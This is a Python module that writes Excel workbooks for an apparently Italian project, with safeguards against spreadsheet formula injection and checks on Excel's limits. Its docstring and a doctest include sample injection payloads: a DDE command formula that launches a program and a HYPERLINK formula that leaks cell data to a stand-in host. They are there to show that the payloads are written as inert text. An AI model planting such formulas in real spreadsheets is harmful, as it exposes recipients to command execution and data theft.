"""The one writer of every Excel workbook the project produces.

Workbooks travel by e-mail between antenne, Collocamento Mirato offices and the
funder. A cell that Excel reads as a formula can leak data (``=HYPERLINK(...)``) or
run commands (``=cmd|' /C calc'!A0``) when the file is opened, so this module makes
one promise for every workbook: **nothing lost, nothing executed**.

* A data string is always written as a string cell (``t="inlineStr"``), never as a
  formula or an error value, whatever it begins with (``=``, ``+``, ``-``, ``@``,
  a tab, ``#N/A``...), and without any quote prefix: it reads back exactly.
* Numbers, booleans, dates and times are typed cells with Italian-friendly number
  formats (:data:`INT_FORMAT`, :data:`FLOAT_FORMAT`, :data:`DATE_FORMAT`);
  ``None``, ``NaN``, ``NA`` and ``NaT`` are empty cells, and so is ``""``.
* Before anything is written, :func:`check_sheets` finds every value Excel cannot
  hold (a string over 32,767 characters, a character XML 1.0 forbids, a table over
  1,048,576 rows or 16,384 columns) and reports it as a :class:`~._errors.Problem`
  naming workbook, sheet, spreadsheet row and column header. :func:`write_workbook`
  and :func:`workbook_bytes` raise :class:`~._errors.DataError` with all of them:
  no workbook is ever truncated, and openpyxl never fails half-way.

A table over Excel's row limit is **refused**, not split over several sheets: the
loader reads a table from the sheet that bears its name, so rows moved to an
``attori_2`` sheet would be silently lost on the next load. Such a table belongs in
CSV or GeoPackage.

Values that Excel cannot hold as typed cells without loss are written as text:
integers of 16 digits or more (Excel keeps 15 significant digits), ``±inf``
(``"inf"``, ``"-inf"``), floats outside Excel's range, dates before 1900
(``dd/mm/yyyy``). Time zones are dropped, keeping the wall-clock time.

A carriage return inside a string (``"\\r\\n"``) is written as the character
reference ``&#13;`` so that it survives XML end-of-line normalisation: openpyxl's
own writer (without lxml) writes it raw and it would read back as ``"\\n"``. A
string of blanks only gets ``xml:space="preserve"``, which openpyxl's writer omits.

Openpyxl writes numbers with 16 significant digits; a float that needs 17 is
written with its shortest exact representation, so every float reads back equal.

Sheet names are ours: :func:`sheet_titles` makes them valid (at most 31 characters,
none of ``[]:*?/\\``) and unique, deterministically, without reporting anything.

Usage: one :class:`Sheet` per table (or several :class:`Block` s at offsets in one
sheet), then one call. :func:`write_workbook` runs :func:`check_sheets` itself; call
:func:`check_sheets` directly to report the problems of every workbook of a build
before writing the first file::

    sheets = [Sheet(name, frame, freeze_header=True) for name, frame in tables.items()]
    write_workbook(path, sheets)  # DataError before anything is written
"""

from __future__ import annotations

import contextlib
import datetime as dt
import heapq
import io
import itertools
import math
import os
import re
import zipfile
from collections.abc import Collection, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from decimal import Decimal
from pathlib import Path
from typing import IO, Any

import numpy as np
import pandas as pd
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.datavalidation import DataValidation

from ._atomic import atomic_path
from ._errors import DataError, Problem, UsageError

__all__ = [
    "DATETIME_FORMAT",
    "DATE_FORMAT",
    "FLOAT_FORMAT",
    "INT_FORMAT",
    "MAX_CELL_CHARS",
    "MAX_COLUMNS",
    "MAX_ROWS",
    "Block",
    "DropDown",
    "Sheet",
    "cell_value",
    "check_sheets",
    "sheet_titles",
    "workbook_bytes",
    "write_workbook",
]

#: Characters in one cell (Excel specification limit).
MAX_CELL_CHARS = 32_767
#: Rows in one sheet, the header included.
MAX_ROWS = 1_048_576
#: Columns in one sheet.
MAX_COLUMNS = 16_384
#: Characters in a sheet name.
MAX_TITLE_CHARS = 31
#: Number format of integers: Italian Excel shows ``1.234``.
INT_FORMAT = "#,##0"
#: Number format of floats: Italian Excel shows ``1.234,5678``.
FLOAT_FORMAT = "#,##0.0000"
#: Number format of dates.
DATE_FORMAT = "DD/MM/YYYY"
#: Number format of timestamps with a time of day.
DATETIME_FORMAT = "DD/MM/YYYY HH:MM:SS"
#: Number format of times of day.
TIME_FORMAT = "HH:MM:SS"

#: Characters that XML 1.0 cannot hold: C0 controls except tab, LF, CR (the set of
#: openpyxl's ``ILLEGAL_CHARACTERS_RE``), lone surrogates and U+FFFE, U+FFFF.
_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
_BAD_TITLE = re.compile("[\\[\\]:*?/\\\\\x00-\x1f\ud800-\udfff\ufffe\uffff]")
#: Stands for a carriage return while openpyxl serialises a sheet; the preflight
#: guarantees that no data holds it (U+FFFF is not an XML character).
_CR = "\uffff"
_CR_REF = b"&#13;"
_PRESERVE = b'<t xml:space="preserve">'
#: Largest and smallest magnitudes Excel stores as numbers.
_MAX_NUMBER = 9.99999999999999e307
_MIN_NUMBER = 2.2250738585072014e-308
_MAX_EXACT_INT = 10**15
_EXCEL_EPOCH = dt.date(1900, 1, 1)
#: Sheet names a formula may use unquoted (no digits: never a cell reference).
_PLAIN_TITLE = re.compile(r"[A-Za-z_][A-Za-z_.]+")

_HEADER_FONT = Font(bold=True)
_HEADER_FILL = PatternFill("solid", fgColor="DDEBF7")
_TITLE_FONT = Font(bold=True, size=14)
_WRAP = Alignment(wrap_text=True, vertical="top")


@dataclass(frozen=True, eq=False)
class Block:
    """A table placed in a sheet at an offset (as pandas ``startrow``/``startcol``).

    Parameters
    ----------
    frame : pandas.DataFrame
        The table. Its column labels are the header row.
    row, column : int
        Zero-based offset of the block's top-left cell.
    index : bool
        Write the index as the first column(s); the header cell above it holds the
        index name.
    header : bool
        Write the header row.
    title : bool
        Style the header row as a title (large bold text) instead of a table header.
    formats : mapping of str to str
        Number format by column header, overriding the default for the type.
    wrap : collection of str
        Column headers whose cells wrap their text.
    """

    frame: pd.DataFrame
    row: int = 0
    column: int = 0
    index: bool = False
    header: bool = True
    title: bool = False
    formats: Mapping[str, str] = field(default_factory=dict)
    wrap: Collection[str] = ()

    @property
    def n_rows(self) -> int:
        """Rows the block takes, its header included."""
        return len(self.frame) + int(self.header)

    @property
    def n_columns(self) -> int:
        """Columns the block takes, its index included."""
        return len(self.frame.columns) + (self.frame.index.nlevels if self.index else 0)

    def headers(self) -> list[str]:
        """The header of every column the block writes, index first."""
        names = []
        if self.index:
            names = [_label(n) for n in self.frame.index.names]
        return names + [_label(c) for c in self.frame.columns]


@dataclass(frozen=True)
class DropDown:
    """A drop-down list (Excel data validation) on a column, fed by another column.

    Parameters
    ----------
    column : str
        Header of the column of this sheet that gets the drop-down.
    source_sheet : str
        Name (as given in :class:`Sheet`) of the sheet holding the allowed values.
    source_column : str
        Header of the column holding them; the list is its data rows.
    last_row : int
        Last spreadsheet row that offers the drop-down.
    error_title, error : str
        The Italian message Excel shows when a value is not in the list.
    """

    column: str
    source_sheet: str
    source_column: str
    last_row: int = 2000
    error_title: str = "Valore non ammesso"
    error: str = "Scegliere un valore dall'elenco."


@dataclass(frozen=True, eq=False)
class Sheet:
    """One sheet of a workbook: a table, or several :class:`Block` s at offsets.

    Parameters
    ----------
    name : str
        Sheet name; made valid and unique by :func:`sheet_titles`.
    frame : pandas.DataFrame, optional
        The table, written from cell A1 with its header.
    index : bool
        Write ``frame``'s index as the first column(s).
    formats : mapping of str to str
        Number format by column header of ``frame``.
    blocks : sequence of Block
        Further tables at offsets (after ``frame`` if both are given). Blocks may
        not overlap.
    widths : mapping of int to float
        Column width by zero-based column; other columns are sized to their header
        and first values.
    freeze_header : bool
        Keep the first row visible when scrolling.
    drop_downs : sequence of DropDown
        Drop-down lists on columns of the first block that has the header.
    """

    name: str
    frame: pd.DataFrame | None = None
    index: bool = False
    formats: Mapping[str, str] = field(default_factory=dict)
    blocks: Sequence[Block] = ()
    widths: Mapping[int, float] = field(default_factory=dict)
    freeze_header: bool = False
    drop_downs: Sequence[DropDown] = ()

    def all_blocks(self) -> list[Block]:
        """``frame`` as a block at A1 (if given), then ``blocks``."""
        first = [] if self.frame is None else [
            Block(self.frame, index=self.index, formats=self.formats)]
        return [*first, *self.blocks]


# --------------------------------------------------------------------------------------
# Names
# --------------------------------------------------------------------------------------


def sheet_titles(names: Sequence[str]) -> list[str]:
    """Valid, unique Excel sheet names for ``names``, in order, deterministically.

    A name that is already valid and not taken by an earlier one is kept. Otherwise
    ``[]:*?/\\`` and control characters become ``_``, apostrophes at the ends are
    dropped, the name is cut to 31 characters and, if taken (Excel compares names
    without case), gets a suffix ``_2``, ``_3``...

    Examples
    --------
    >>> sheet_titles(["attori", "Attori", "a/b: c?", "x" * 40, "History"])
    ['attori', 'Attori_2', 'a_b_ c_', 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx', 'History_']
    """
    valid = [_valid_title(n) for n in names]
    taken: set[str] = set()
    keep = []
    for name, ok in zip(names, valid, strict=True):
        kept = ok and name.casefold() not in taken
        keep.append(kept)
        if kept:
            taken.add(name.casefold())
    out = []
    for name, kept in zip(names, keep, strict=True):
        if kept:
            out.append(name)
            continue
        base = _BAD_TITLE.sub("_", name).strip("'") or "Foglio"
        if base.casefold() == "history":
            base += "_"
        title = base[:MAX_TITLE_CHARS].rstrip("'")
        n = 2
        while title.casefold() in taken:
            suffix = f"_{n}"
            title = base[:MAX_TITLE_CHARS - len(suffix)].rstrip("'") + suffix
            n += 1
        taken.add(title.casefold())
        out.append(title)
    return out


def _valid_title(name: str) -> bool:
    return (0 < len(name) <= MAX_TITLE_CHARS and not _BAD_TITLE.search(name)
            and not name.startswith("'") and not name.endswith("'")
            and name.casefold() != "history")


def _label(value: object) -> str:
    """A column or index label as header text."""
    if isinstance(value, tuple):
        return " / ".join(_label(v) for v in value if not _is_missing(v))
    if _is_missing(value):
        return ""
    return str(value)


def _visible(text: str, limit: int = 60) -> str:
    """``text`` fit for a message: forbidden characters as ``<U+XXXX>``, cut."""
    shown = _ILLEGAL.sub(lambda m: f"<U+{ord(m.group()):04X}>", text)
    return shown if len(shown) <= limit else shown[: limit - 1] + "…"


def _quote_title(title: str) -> str:
    if _PLAIN_TITLE.fullmatch(title) and title.upper() not in {"TRUE", "FALSE"}:
        return title
    return "'" + title.replace("'", "''") + "'"


# --------------------------------------------------------------------------------------
# Values
# --------------------------------------------------------------------------------------


def _is_missing(value: object) -> bool:
    if value is None or value is pd.NA or value is pd.NaT:
        return True
    if isinstance(value, float | np.floating):
        return math.isnan(value)
    if isinstance(value, np.datetime64 | np.timedelta64):
        return bool(np.isnat(value))
    return False


def _day_text(value: dt.date) -> str:
    text = f"{value.day:02d}/{value.month:02d}/{value.year:04d}"
    if isinstance(value, dt.datetime) and value.time() != dt.time():
        text += f" {value:%H:%M:%S}"
    return text


def cell_value(value: object) -> Any:
    """The value a cell holds for ``value``: ``None`` (empty), str, bool, int, float,
    Decimal, date, datetime or time, converted as the module docstring says.

    Examples
    --------
    >>> cell_value(np.int64(3)), cell_value(float("nan")), cell_value(""), cell_value(2**60)
    (3, None, None, '1152921504606846976')
    >>> cell_value(pd.Timestamp("2026-06-30")), cell_value(float("-inf"))
    (datetime.date(2026, 6, 30), '-inf')
    """
    if _is_missing(value):
        return None
    if isinstance(value, str):
        return str(value) or None
    if isinstance(value, bool | np.bool_):
        return bool(value)
    if isinstance(value, int | np.integer):
        number = int(value)
        return number if abs(number) < _MAX_EXACT_INT else str(number)
    if isinstance(value, float | np.floating):
        real = float(value)
        if math.isinf(real):
            return "inf" if real > 0 else "-inf"
        if abs(real) > _MAX_NUMBER or 0 < abs(real) < _MIN_NUMBER:
            return repr(real)
        return real
    if isinstance(value, Decimal):
        return value if value.is_finite() and abs(value) <= _MAX_NUMBER else str(value)
    if isinstance(value, np.datetime64):  # any unit, beyond pandas' years 1677-2262 too
        moment = value.astype("datetime64[us]").item()
        if not isinstance(moment, dt.date):  # beyond Python's years 1-9999
            return str(value)
        value = moment
    if isinstance(value, dt.datetime):
        moment = value.replace(tzinfo=None)
        if isinstance(moment, pd.Timestamp):
            moment = moment.to_pydatetime()
        if moment.date() < _EXCEL_EPOCH:
            return _day_text(moment)
        return moment.date() if moment.time() == dt.time() else moment
    if isinstance(value, dt.date):
        return _day_text(value) if value < _EXCEL_EPOCH else value
    if isinstance(value, dt.time):
        return value.replace(tzinfo=None)
    return str(value) or None


def _string_problems(text: str) -> list[str]:
    """Why Excel cannot hold ``text`` in a cell (empty if it can)."""
    messages = []
    if len(text) > MAX_CELL_CHARS:
        messages.append(f"il valore supera il limite di Excel di 32.767 caratteri per cella "
                        f"({_thousands(len(text))} caratteri): accorciarlo")
    found = _ILLEGAL.search(text)
    if found:
        code = ord(found.group())
        where = f"alla posizione {found.start() + 1}"
        if code < 0x20:
            messages.append(f"carattere di controllo non ammesso (U+{code:04X}) {where}: "
                            "Excel non può contenerlo; toglierlo o sostituirlo con uno spazio")
        else:
            messages.append(f"carattere non ammesso in un file Excel (U+{code:04X}) {where}: "
                            "toglierlo dal dato")
    return messages


def _thousands(n: int) -> str:
    return f"{n:,}".replace(",", ".")


# --------------------------------------------------------------------------------------
# Preflight
# --------------------------------------------------------------------------------------


def check_sheets(sheets: Sequence[Sheet], *, where: str) -> list[Problem]:
    """Every value of ``sheets`` that Excel cannot hold; nothing is written.

    Parameters
    ----------
    sheets : sequence of Sheet
        The workbook to be.
    where : str
        The workbook's name for the messages; a problem's ``file`` is
        ``where[sheet]``, its ``row`` the spreadsheet row (the first row is 1) and
        its ``column`` the column header.

    Returns
    -------
    list of Problem
        Errors: strings over 32,767 characters, characters XML 1.0 forbids (in the
        header or the data), tables over 1,048,576 rows or 16,384 columns. Empty if
        the workbook can be written.

    Raises
    ------
    UsageError
        If blocks overlap or start at a negative offset, or a drop-down names a
        sheet or column that does not exist (mistakes of the caller, not the data).

    Examples
    --------
    >>> frame = pd.DataFrame({"nome": ["ok", "a\\x0bb", "x" * 40_000], "n": [1, 2, 3]})
    >>> for p in check_sheets([Sheet("attori", frame)], where="mappa.xlsx"):
    ...     print(p)
    mappa.xlsx[attori]:3: nome: carattere di controllo non ammesso (U+000B) alla posizione 2: ...
    mappa.xlsx[attori]:4: nome: il valore supera il limite di Excel di 32.767 caratteri ...
    """
    titles = sheet_titles([s.name for s in sheets])
    _check_layout(sheets)
    problems: list[Problem] = []
    for sheet, title in zip(sheets, titles, strict=True):
        label = f"{where}[{title}]"
        for block in sheet.all_blocks():
            problems.extend(_check_block(block, label))
    return problems


def _check_block(block: Block, label: str) -> list[Problem]:
    problems = []
    last_row = block.row + block.n_rows
    if last_row > MAX_ROWS:
        problems.append(Problem(label, None, None, (
            f"la tabella ha {_thousands(block.n_rows)} righe con l'intestazione: Excel ne "
            f"ammette al massimo {_thousands(MAX_ROWS)} per foglio. La cartella di lavoro non "
            "è stata scritta: salvare i dati in CSV o GeoPackage")))
    last_column = block.column + block.n_columns
    if last_column > MAX_COLUMNS:
        problems.append(Problem(label, None, None, (
            f"la tabella ha {_thousands(block.n_columns)} colonne: Excel ne ammette al "
            f"massimo {_thousands(MAX_COLUMNS)} per foglio. La cartella di lavoro non è "
            "stata scritta: salvare i dati in CSV o GeoPackage")))
    if problems:
        return problems
    headers = block.headers()
    if block.header:
        for header in headers:
            problems.extend(Problem(label, block.row + 1, _visible(header), message)
                            for message in _string_problems(header))
    first = block.row + int(block.header) + 1
    columns = _columns(block)
    for header, values in zip(headers, columns, strict=True):
        if _never_text(values):
            continue
        column = _visible(header) or None
        for i, value in enumerate(values):
            text = cell_value(value)
            if isinstance(text, str):
                problems.extend(Problem(label, first + i, column, message)
                                for message in _string_problems(text))
    return problems


def _columns(block: Block) -> list[pd.Series | pd.Index]:
    """The block's columns as sequences, index levels first."""
    frame = block.frame
    out: list[pd.Series | pd.Index] = []
    if block.index:
        out += [frame.index.get_level_values(i) for i in range(frame.index.nlevels)]
    out += [frame.iloc[:, j] for j in range(len(frame.columns))]
    return out


def _never_text(values: pd.Series | pd.Index) -> bool:
    """A column whose type can hold no string (and no character to check)."""
    kind = values.dtype.kind
    return kind in "biufmM" and not isinstance(values.dtype, pd.CategoricalDtype)


def _check_layout(sheets: Sequence[Sheet], active: str | None = None) -> None:
    by_name = {s.name: s for s in sheets}
    if active is not None and active not in by_name:
        msg = f"active={active!r} is not the name of one of the sheets {list(by_name)}"
        raise UsageError(msg, param="active")
    for sheet in sheets:
        blocks = sheet.all_blocks()
        for block in blocks:
            if block.row < 0 or block.column < 0:
                msg = (f"sheet {sheet.name!r}: a block starts at a negative offset "
                       f"({block.row}, {block.column})")
                raise UsageError(msg, param="sheets")
        for a, b in itertools.combinations(blocks, 2):
            if (a.n_rows and a.n_columns and b.n_rows and b.n_columns
                    and a.row < b.row + b.n_rows and b.row < a.row + a.n_rows
                    and a.column < b.column + b.n_columns and b.column < a.column + a.n_columns):
                msg = f"sheet {sheet.name!r}: two blocks overlap"
                raise UsageError(msg, param="sheets")
        for drop in sheet.drop_downs:
            source = by_name.get(drop.source_sheet)
            if _find(sheet, drop.column) is None or source is None or \
                    _find(source, drop.source_column) is None:
                msg = (f"sheet {sheet.name!r}: drop-down {drop.column!r} from "
                       f"{drop.source_sheet!r}/{drop.source_column!r} names no column")
                raise UsageError(msg, param="sheets")


def _find(sheet: Sheet, header: str) -> tuple[Block, int] | None:
    """The first block of ``sheet`` with column ``header`` and the column's position."""
    for block in sheet.all_blocks():
        headers = block.headers()
        if header in headers:
            return block, headers.index(header)
    return None


# --------------------------------------------------------------------------------------
# Writing
# --------------------------------------------------------------------------------------


def workbook_bytes(sheets: Sequence[Sheet], *, where: str, active: str | None = None) -> bytes:
    """The ``.xlsx`` file of ``sheets``, in memory, after :func:`check_sheets`.

    Parameters
    ----------
    sheets : sequence of Sheet
        The sheets, in order.
    where : str
        The workbook's name in problem messages.
    active : str, optional
        Name (as given) of the sheet shown when the file is opened (default the first).

    Returns
    -------
    bytes

    Raises
    ------
    DataError
        If :func:`check_sheets` finds a problem; nothing is produced.

    Examples
    --------
    >>> from openpyxl import load_workbook
    >>> frame = pd.DataFrame({"nome": ["=1+1", "@SUM(A1)", "Coop\\r\\nA"], "posti": [3, 1200, None],
    ...                       "dal": pd.to_datetime(["2026-06-30", None, "2027-01-01"])})
    >>> data = workbook_bytes([Sheet("attori", frame)], where="esempio.xlsx")
    >>> ws = load_workbook(io.BytesIO(data))["attori"]
    >>> [(c.value, c.data_type) for c in ws["A"]]
    [('nome', 's'), ('=1+1', 's'), ('@SUM(A1)', 's'), ('Coop\\r\\nA', 's')]
    >>> [(c.value, c.number_format) for c in ws["B"][1:]]
    [(3, '#,##0'), (1200, '#,##0'), (None, 'General')]
    >>> ws["C2"].value, ws["C2"].number_format
    (datetime.datetime(2026, 6, 30, 0, 0), 'DD/MM/YYYY')
    """
    _preflight(sheets, where, active)
    buffer = io.BytesIO()
    _save(sheets, buffer, active)
    return buffer.getvalue()


def write_workbook(target: str | os.PathLike[str] | IO[bytes], sheets: Sequence[Sheet], *,
                   where: str | None = None, active: str | None = None) -> None:
    """Write ``sheets`` as an ``.xlsx`` workbook, after :func:`check_sheets`.

    A path is written atomically (a temporary file in the same folder, then a
    rename): on any failure the target is left as it was, and on a data problem it
    is not even created.

    Parameters
    ----------
    target : path-like or binary file
        Where to write. A path's parent folder is created if missing.
    sheets : sequence of Sheet
        The sheets, in order.
    where : str, optional
        The workbook's name in problem messages (default: the target's file name).
    active : str, optional
        Name (as given) of the sheet shown when the file is opened (default the first).

    Raises
    ------
    DataError
        If :func:`check_sheets` finds a problem; nothing is written.

    Examples
    --------
    >>> import tempfile
    >>> frame = pd.DataFrame({"territorio": ['=HYPERLINK("http://x/"&A1,"Clicca")']})
    >>> with tempfile.TemporaryDirectory() as folder:
    ...     path = Path(folder) / "t.xlsx"
    ...     write_workbook(path, [Sheet("territori", frame)])
    ...     pd.read_excel(path, dtype=str)["territorio"].tolist()
    ['=HYPERLINK("http://x/"&A1,"Clicca")']
    >>> write_workbook(io.BytesIO(), [Sheet("t", pd.DataFrame({"x": ["\\x00"]}))])
    Traceback (most recent call last):
    ...
    opportunity_map._errors.DataError: 1 errori nei dati:
    cartella di lavoro[t]:2: x: carattere di controllo non ammesso (U+0000) alla posizione 1: ...
    """
    if isinstance(target, str | os.PathLike):
        path = Path(target)
        _preflight(sheets, where or path.name, active)
        with atomic_path(path) as tmp:
            _save(sheets, tmp, active)
    else:
        target.write(workbook_bytes(sheets, where=where or "cartella di lavoro", active=active))


def _preflight(sheets: Sequence[Sheet], where: str, active: str | None) -> None:
    """Raise before anything is written: UsageError for the caller, DataError for data."""
    _check_layout(sheets, active)
    problems = check_sheets(sheets, where=where)
    if any(p.severity == "error" for p in problems):
        raise DataError(problems)


def _save(sheets: Sequence[Sheet], sink: Path | io.BytesIO, active: str | None) -> None:
    """Build the workbook and save it to ``sink`` (checked data only)."""
    builder = _Builder()
    wb = Workbook(write_only=True)
    try:
        builder.build(wb, sheets, active)
        wb.save(sink)
    except BaseException:
        _discard(wb)
        raise
    if builder.rewrite:
        data = sink.read_bytes() if isinstance(sink, Path) else sink.getvalue()
        data = _rewrite_strings(data)
        if isinstance(sink, Path):
            sink.write_bytes(data)
        else:
            sink.seek(0)
            sink.truncate()
            sink.write(data)


def _discard(wb: Workbook) -> None:
    """Close the sheets of a workbook that was not saved and remove their temporary files.

    A write-only sheet streams its XML to a temporary file; left open, it would be
    finalised at garbage collection and print "Exception ignored" on a closed file.
    """
    for ws in wb.worksheets:
        with contextlib.suppress(Exception):
            if not ws.closed:
                ws.close()
        writer = getattr(ws, "_writer", None)
        if writer is not None:
            with contextlib.suppress(Exception):
                writer.cleanup()


def _rewrite_strings(data: bytes) -> bytes:
    """Replace the stand-in of ``\\r`` in the sheets' XML with ``&#13;``, and keep the
    blanks of every string (``xml:space="preserve"``)."""
    stand_in = _CR.encode("utf-8")
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dest:
        for info in source.infolist():
            content = source.read(info)
            if info.filename.startswith("xl/worksheets/") and info.filename.endswith(".xml"):
                # only inline strings use <t> in a sheet we write (no rich text)
                content = content.replace(stand_in, _CR_REF).replace(b"<t>", _PRESERVE)
            dest.writestr(info, content)
    return out.getvalue()


class _Builder:
    """Builds a write-only workbook; remembers whether a string needs the XML rewritten
    (it holds ``\\r`` or only blanks)."""

    def __init__(self) -> None:
        self.rewrite = False

    def build(self, wb: Workbook, sheets: Sequence[Sheet], active: str | None) -> None:
        titles = sheet_titles([s.name for s in sheets])
        title_of = dict(zip((s.name for s in sheets), titles, strict=True))
        by_name = {s.name: s for s in sheets}
        for sheet, title in zip(sheets, titles, strict=True):
            ws = wb.create_sheet(title)
            self._write_sheet(ws, sheet)
            for drop in sheet.drop_downs:
                ws.data_validations.append(
                    _validation(sheet, drop, by_name[drop.source_sheet],
                                title_of[drop.source_sheet]))
        if active is not None:
            wb.active = [s.name for s in sheets].index(active)

    def _write_sheet(self, ws: Any, sheet: Sheet) -> None:
        blocks = sheet.all_blocks()
        for j, width in _widths(sheet, blocks).items():
            ws.column_dimensions[get_column_letter(j + 1)].width = width
        if sheet.freeze_header:
            ws.freeze_panes = "A2"
        streams = [self._block_rows(ws, b) for b in blocks]
        current = 0
        merged = heapq.merge(*streams, key=lambda item: item[0])
        for row, group in itertools.groupby(merged, key=lambda item: item[0]):
            while current < row:
                ws.append([])
                current += 1
            cells: dict[int, Any] = {}
            for _, start, values in group:
                for k, cell in enumerate(values):
                    cells[start + k] = cell
            ws.append([cells.get(j) for j in range(max(cells, default=-1) + 1)])
            current += 1

    def _block_rows(self, ws: Any, block: Block) -> Iterator[tuple[int, int, list[Any]]]:
        """``(row, first column, cells)`` of every row of the block, zero-based."""
        headers = block.headers()
        row = block.row
        if block.header:
            font = _TITLE_FONT if block.title else _HEADER_FONT
            fill = None if block.title else _HEADER_FILL
            yield row, block.column, [self._cell(ws, h, font=font, fill=fill, keep=True)
                                      for h in headers]
            row += 1
        n_index = block.frame.index.nlevels if block.index else 0
        styles = [
            (block.formats.get(h) or _column_format(values), _WRAP if h in block.wrap else None,
             _HEADER_FONT if j < n_index else None)
            for j, (h, values) in enumerate(zip(headers, _columns(block), strict=True))
        ]
        for values in _records(block):
            yield row, block.column, [
                self._cell(ws, v, number_format=fmt, alignment=align, font=font)
                for v, (fmt, align, font) in zip(values, styles, strict=True)
            ]
            row += 1

    def _cell(self, ws: Any, value: object, *, number_format: str | None = None,
              alignment: Alignment | None = None, font: Font | None = None,
              fill: PatternFill | None = None, keep: bool = False) -> Any:
        """A write-only cell of explicit type, or None for an unstyled empty cell."""
        value = cell_value(value)
        if value is None and not keep:
            return None
        cell = WriteOnlyCell(ws)
        if isinstance(value, str):
            if "\r" in value:
                value = value.replace("\r", _CR)
                self.rewrite = True
            elif not value.strip():
                self.rewrite = True
            cell.value = value
            cell.data_type = "s"  # never "f" (formula) nor "e" (error), whatever it reads
        elif value is not None:
            cell.value = value
            cell.number_format = number_format or _default_format(value)
            if isinstance(value, float) and float(f"{value:.16g}") != value:
                # openpyxl writes numbers with 16 significant digits; a double may
                # need 17: write the shortest exact text as the number's <v>
                cell.value = repr(value)
                cell.data_type = "n"
        if font is not None:
            cell.font = font
        if fill is not None:
            cell.fill = fill
        if alignment is not None:
            cell.alignment = alignment
        return cell


def _default_format(value: object) -> str:
    if isinstance(value, bool):
        return "General"
    if isinstance(value, int):
        return INT_FORMAT
    if isinstance(value, float | Decimal):
        return FLOAT_FORMAT
    if isinstance(value, dt.datetime):
        return DATETIME_FORMAT
    if isinstance(value, dt.date):
        return DATE_FORMAT
    return TIME_FORMAT


def _column_format(values: pd.Series | pd.Index) -> str | None:
    """:data:`INT_FORMAT` for a float column of whole numbers (integers with gaps)."""
    if values.dtype.kind != "f":
        return None
    finite = values.to_numpy(dtype=float, na_value=np.nan)
    finite = finite[np.isfinite(finite)]
    if finite.size and bool(np.all(finite == np.round(finite))):
        return INT_FORMAT
    return None


def _records(block: Block) -> Iterator[tuple[Any, ...]]:
    frame = block.frame
    rows: Iterator[tuple[Any, ...]] = frame.itertuples(index=block.index, name=None)
    if block.index and frame.index.nlevels > 1:
        return ((*row[0], *row[1:]) for row in rows)
    return rows


def _widths(sheet: Sheet, blocks: list[Block]) -> dict[int, float]:
    """Column widths: as given, else from the header and the first values (10 to 50)."""
    widths: dict[int, float] = {}
    for block in blocks:
        columns = _columns(block)
        for k, (header, values) in enumerate(zip(block.headers(), columns, strict=True)):
            sample = [header] if block.header and not block.title else []
            sample += [v for v in map(cell_value, itertools.islice(values, 50))
                       if isinstance(v, str)]
            longest = max((len(line) for text in sample for line in text.splitlines()),
                          default=0)
            j = block.column + k
            widths[j] = max(widths.get(j, 10.0), min(50.0, longest + 2.0))
    widths.update(sheet.widths)
    return widths


def _validation(sheet: Sheet, drop: DropDown, source: Sheet, source_title: str) -> DataValidation:
    found, found_source = _find(sheet, drop.column), _find(source, drop.source_column)
    assert found is not None and found_source is not None  # checked by _check_layout
    block, k = found
    col = get_column_letter(block.column + k + 1)
    first = block.row + int(block.header) + 1
    src_block, src_k = found_source
    src_col = get_column_letter(src_block.column + src_k + 1)
    src_first = src_block.row + int(src_block.header) + 1
    src_last = src_first + max(len(src_block.frame), 1) - 1
    dv = DataValidation(
        type="list", allow_blank=True, showErrorMessage=True,
        formula1=f"{_quote_title(source_title)}!${src_col}${src_first}:${src_col}${src_last}",
        errorTitle=drop.error_title, error=drop.error,
    )
    dv.add(f"{col}{first}:{col}{drop.last_row}")
    return dv
